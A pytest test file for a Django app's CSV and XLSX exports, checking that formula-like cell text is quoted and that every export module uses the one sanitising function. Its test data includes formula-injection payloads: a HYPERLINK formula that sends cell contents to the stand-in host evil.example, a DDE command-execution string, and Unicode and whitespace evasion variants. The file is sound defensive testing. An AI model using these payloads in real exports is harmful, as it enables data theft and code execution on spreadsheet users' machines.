"""Formula injection in exports: one function (inspections/cells.py) decides, and every CSV and
XLSX the product writes goes through it (issue 16, item 8)."""

from __future__ import annotations

import ast
import csv
import datetime
import io
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.urls import reverse

from inspections.cells import cell_safe, cell_unquote, looks_like_formula

DANGEROUS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
    " =1+1",
    "   =1+1",
    "\t=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\u00a0=1+1",
    "\u2003=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1+1",
    " \u00a0\t＝1+1",
    "\tplain text after a tab",
    "\rplain text after a return",
]
HARMLESS = ["Sutton", "London Borough of Sutton", "a = b", "1-2", "Audit (=done)", "", " ", "e-mail", "Q1 2013"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_a_spreadsheet_could_run_is_quoted(text):
    assert looks_like_formula(text)
    assert cell_safe(text) == "'" + text
    assert cell_unquote(cell_safe(text)) == text


@pytest.mark.parametrize("value", [*HARMLESS, 12, -3, 1.5, None, datetime.date(2026, 1, 31)])
def test_everything_else_is_unchanged(value):
    assert cell_safe(value) == value
    assert cell_unquote(value) == value


def test_every_module_that_writes_a_csv_or_xlsx_uses_the_one_function():
    """A new export cannot forget: any module that makes a csv writer or an openpyxl workbook
    must call cell_safe."""
    root = Path(settings.BASE_DIR)
    writers = []
    for package in ("actions", "improvement_board", "inspections"):
        for path in (root / package).rglob("*.py"):
            if "migrations" in path.parts:
                continue
            source = path.read_text()
            tree = ast.parse(source)
            names = {
                node.attr if isinstance(node, ast.Attribute) else getattr(node, "id", "")
                for node in ast.walk(tree)
                if isinstance(node, (ast.Attribute, ast.Name))
            }
            if {"writer", "DictWriter"} & names and "csv" in names or "Workbook" in names:
                writers.append(path.relative_to(root))
                assert "cell_safe" in names, f"{path.relative_to(root)} writes a spreadsheet without cell_safe"
    assert {"actions/exports.py", "improvement_board/dashboards/overview.py", "actions/plan_template.py"} <= {
        str(p) for p in writers
    }


# --- Each export, end to end -----------------------------------------------------------------

EVIL = '\u00a0=HYPERLINK("https://evil.example","x")'


@pytest.mark.django_db
def test_the_observer_overview_csv_quotes_a_council_name_that_is_a_formula(client, observer, sutton):
    type(sutton).objects.filter(pk=sutton.pk).update(short_name=EVIL)
    client.force_login(observer)
    response = client.get(reverse("dashboards:overview_csv"))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = [row[0] for row in rows[1:]]
    assert "'" + EVIL in names and EVIL not in names


@pytest.mark.django_db
@pytest.mark.parametrize("title", [" =1+1", "\t=1+1", "＝1+1", "\n@SUM(A1)"])
def test_the_plan_csv_and_xlsx_quote_formula_like_text(client, sutton_officer, sutton_plan, make_action, title):
    make_action(sutton_plan, title=title)
    client.force_login(sutton_officer)
    csv_rows = list(csv.reader(io.StringIO(client.get(reverse("actions:export_csv")).content.decode("utf-8-sig"))))
    assert csv_rows[1][1] == "'" + title
    book = openpyxl.load_workbook(io.BytesIO(client.get(reverse("actions:export_xlsx")).content))
    cell = book.active["B2"]
    assert cell.value == "'" + title and cell.data_type == "s"


@pytest.mark.django_db
def test_the_plan_template_quotes_formula_like_text_and_reads_it_back_unchanged(
    sutton, sutton_plan, make_action, sutton_officer
):
    from actions import plan_import, plan_template

    make_action(
        sutton_plan,
        reference="1.1",
        title='＝HYPERLINK("https://evil.example")',
        start_date=datetime.date(2026, 1, 1),
        due_date=datetime.date(2026, 12, 31),
    )
    data = plan_template.template_xlsx(sutton_plan)
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Plan"]
    titles = [cell.value for cell in sheet["C"][1:]]
    assert titles == ['\'＝HYPERLINK("https://evil.example")']
    result = plan_import.preview(data=data, filename="template.xlsx", council=sutton, plan=sutton_plan)
    assert {r.kind for r in result.rows} == {"unchanged"}, [(r.reference, r.changes) for r in result.rows]
